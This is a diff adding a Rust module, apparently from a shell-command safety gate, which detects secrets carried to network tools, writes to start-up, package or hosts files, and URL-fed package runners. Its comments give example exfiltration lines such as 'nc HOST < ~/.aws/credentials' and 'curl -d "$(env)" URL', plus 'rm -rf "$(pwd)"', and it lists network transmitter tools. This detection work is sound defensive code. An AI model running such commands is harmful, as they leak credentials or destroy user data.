@@ -1,0 +1,206 @@
+//! What the line's data carries from one command to another, where the command model alone
+//! cannot see it: a secret carried to the network (by a pipe, a substitution or a command's
+//! own input), text written where something later runs or obeys it (a start-up file, a
+//! package manager's configuration, the hosts file), a substitution whose value the line
+//! knows (`$(pwd)`), and a package runner handed a URL instead of a package.
+
+use std::borrow::Cow;
+
+use gate_spec::effect::{Act, Place};
+
+use super::places::{self, Where};
+use super::shell::{in_substitution, printed, MAX_NESTING};
+use super::{Effect, Sink};
+use crate::shell::{Parsed, SimpleCommand};
+
+/// Wrappers (as the parser names them) that fetch a package and run it.
+pub(super) const PACKAGE_RUNNERS: &[&str] = &[
+    "npx", "npm exec", "pnpm dlx", "yarn dlx", "bunx", "bun x", "uvx", "pipx run",
+];
+
+/// Whether a package spec names a place code is fetched from that is no registry: a URL, a
+/// git remote, a forge shorthand.
+pub(super) fn names_code_source(spec: &str) -> bool {
+    spec.contains("://")
+        || ["git+", "github:", "gitlab:", "bitbucket:", "gist:"]
+            .iter()
+            .any(|p| spec.starts_with(p))
+}
+
+/// What the text a command writes does where it lands, when the line shows it: a line
+/// added to a shell start-up file is code every later shell runs (analysed, and a temporary
+/// directory put first on `PATH` or a preload list is `cron`); a package manager's
+/// configuration naming where packages come from is `cron` (later installs run that code),
+/// and so is a hosts entry or name server that sends a name elsewhere.
+#[allow(clippy::too_many_arguments)]
+pub(super) fn later_text(
+    cmd: &SimpleCommand<'_>,
+    args: &[Cow<'_, str>],
+    stdin: Option<&str>,
+    cwd: &str,
+    oldpwd: Option<&str>,
+    at: &Where,
+    depth: usize,
+    sink: &mut Sink,
+) {
+    let tee = cmd.program == "tee";
+    let targets = args
+        .iter()
+        .map(|a| &**a)
+        .filter(|a| tee && !a.starts_with('-'))
+        .chain(
+            cmd.writes
+                .iter()
+                .filter(|w| !tee && w.op != "<" && w.op != "<>")
+                .map(|w| w.target.as_str()),
+        );
+    // The text is read only for a target where it matters.
+    let mut text: Option<Option<String>> = None;
+    for target in targets {
+        if !super::later::may_be_read_later(target) {
+            continue;
+        }
+        let path = places::place_of(target, cwd, oldpwd, at).1;
+        let startup = super::later::is_own_startup(&path, &at.home);
+        let names = super::later::is_name_config(&path);
+        if !startup && !names && !super::later::is_package_config(&path) {
+            continue;
+        }
+        let shown = text.get_or_insert_with(|| {
+            if tee {
+                stdin.map(str::to_string)
+            } else {
+                printed(cmd, stdin)
+            }
+        });
+        let Some(text) = shown.as_deref() else {
+            return;
+        };
+        if startup {
+            if depth < MAX_NESTING {
+                sink.script(text);
+            }
+            let (first, preload) = super::later::path_first(text);
+            let temp = first.is_some_and(|d| places::place_of(d, cwd, oldpwd, at).0 == Place::Temp);
+            if temp || preload {
+                sink.path(Act::Cron, target);
+            }
+        } else if names {
+            if super::later::redirects_names(text) {
+                sink.path(Act::Cron, target);
+            }
+        } else if super::later::names_package_source(text) {
+            sink.path(Act::Cron, target);
+        }
+    }
+}
+
+/// Programs that carry whatever data they are given to another host: a secret reaching one
+/// of them leaves the machine. (A secret manager's CLI, `gh secret set`, `kubectl create
+/// secret`, `fly secrets import`, is where secrets belong, and is not one of them.)
+const TRANSMITTERS: &[&str] = &[
+    "curl", "wget", "nc", "ncat", "netcat", "socat", "telnet", "ssh", "scp", "sftp", "rsync",
+    "rclone", "croc", "http", "https", "xh", "openssl",
+];
+
+/// A secret carried to the network: command `i` (whose effects start at `from` in `out`) is
+/// a transmitter, and what it sends includes a secret: one it reads itself (`nc HOST <
+/// ~/.aws/credentials`, `rsync ~/.ssh/ HOST:`), or one a command feeding it read, through a
+/// pipe and filters (`tar czf - ~/.ssh | curl -T - URL`) or a substitution (`curl -d
+/// "$(env)" URL`). The send is then also at that secret. Records what command `i` read.
+pub(super) fn carried_secret(
+    parsed: &Parsed<'_>,
+    i: usize,
+    secret_read: &mut Vec<(usize, String)>,
+    from: usize,
+    out: &mut Vec<Effect>,
+) {
+    let mine = &out[from..];
+    // A public key (`id_ed25519.pub`) is kept beside the secret but is not one.
+    if let Some(e) = mine
+        .iter()
+        .find(|e| e.act == Act::Read && e.place == Place::Secrets && !e.target.ends_with(".pub"))
+    {
+        secret_read.push((i, e.target.clone()));
+    }
+    let cmd = &parsed.commands[i];
+    if secret_read.is_empty()
+        || !TRANSMITTERS.contains(&&*cmd.program)
+        || !mine
+            .iter()
+            .any(|e| e.act == Act::Send && e.place == Place::Remote)
+    {
+        return;
+    }
+    let read_by = |k: usize| {
+        secret_read
+            .iter()
+            .find(|(c, _)| *c == k)
+            .map(|(_, t)| t.clone())
+    };
+    // Its own read, then the substitutions just before it, then its producers upstream
+    // (bounded by the number of commands).
+    let mut found = read_by(i);
+    for k in (0..i).rev() {
+        if found.is_some() || !in_substitution(&parsed.commands[k]) {
+            break;
+        }
+        found = read_by(k);
+    }
+    let mut frontier = vec![i];
+    let mut seen = vec![false; parsed.commands.len()];
+    while let (None, Some(k)) = (&found, frontier.pop()) {
+        for &(a, b) in &parsed.pipes {
+            if b != k || seen.get(a).copied().unwrap_or(true) {
+                continue;
+            }
+            seen[a] = true;
+            found = found.or_else(|| read_by(a));
+            frontier.push(a);
+        }
+    }
+    if let Some(target) = found {
+        out.push(Effect {
+            act: Act::Send,
+            place: Place::Secrets,
+            target,
+        });
+    }
+}
+
+/// Operands built on a substitution whose value the line knows: `$(pwd)` is the working
+/// directory, `$(git rev-parse --show-toplevel)` the project, `$(git rev-parse --git-dir)`
+/// its `.git` (`rm -rf "$(pwd)/target"` removes build outputs, `rm -rf "$(pwd)"` the
+/// project). Only a command with one substitution among its operands, made by one command.
+pub(super) fn known_substitutions(
+    args: &mut [Cow<'_, str>],
+    commands: &[SimpleCommand<'_>],
+    i: usize,
+    cwd: &str,
+    at: &Where,
+) {
+    const SUB: &str = "$(…)";
+    let mut uses = args.iter().filter(|a| a.contains(SUB));
+    let (Some(_), None) = (uses.next(), uses.next()) else {
+        return;
+    };
+    let mut made_by = commands[..i]
+        .iter()
+        .rev()
+        .take_while(|c| in_substitution(c));
+    let (Some(c), None) = (made_by.next(), made_by.next()) else {
+        return;
+    };
+    let words: Vec<&str> = c.args.iter().map(|a| &**a).collect();
+    let value = match (&*c.program, words.as_slice()) {
+        ("pwd", [] | ["-L" | "-P"]) if !cwd.starts_with('$') => cwd.to_string(),
+        ("git", ["rev-parse", "--show-toplevel"]) if !at.project.is_empty() => at.project.clone(),
+        ("git", ["rev-parse", "--git-dir" | "--absolute-git-dir"]) if !at.project.is_empty() => {
+            format!("{}/.git", at.project)
+        }
+        _ => return,
+    };
+    for a in args.iter_mut().filter(|a| a.contains(SUB)) {
+        *a = Cow::Owned(a.replacen(SUB, &value, 1));
+    }
+}
